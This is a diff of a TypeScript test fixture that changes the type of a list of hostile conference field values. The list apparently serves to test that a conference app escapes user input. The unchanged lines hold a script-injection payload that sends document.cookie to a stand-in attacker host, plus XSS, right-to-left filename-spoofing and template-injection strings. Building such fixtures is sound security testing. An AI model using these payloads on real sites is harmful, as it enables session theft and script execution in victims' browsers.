@@ -1,4 +1,4 @@
-import type { Conference } from '#contract/conference.ts';
+import type { SentConference } from '#contract/conference.ts';
 
 const SCRIPT = '</style><script>fetch("https://evil.example/?"+document.cookie)</script>';
 
@@ -6,7 +6,7 @@ const SCRIPT = '</style><script>fetch("https://evil.example/?"+document.cookie)<
  * What a customer could put into a conference to harm whoever looks at it. Every value still has the published
  * type. The first one stands in the small demo too.
  */
-export const HOSTILE_PATCHES: readonly Partial<Conference>[] = [
+export const HOSTILE_PATCHES: readonly Partial<SentConference>[] = [
   {
     display_name: '<script>alert("callboard")</script> Quiz night',
     description: '<img src=x onerror=alert(1)>\u202Etxt.exe\u202C {{constructor.constructor("alert(1)")()}}',
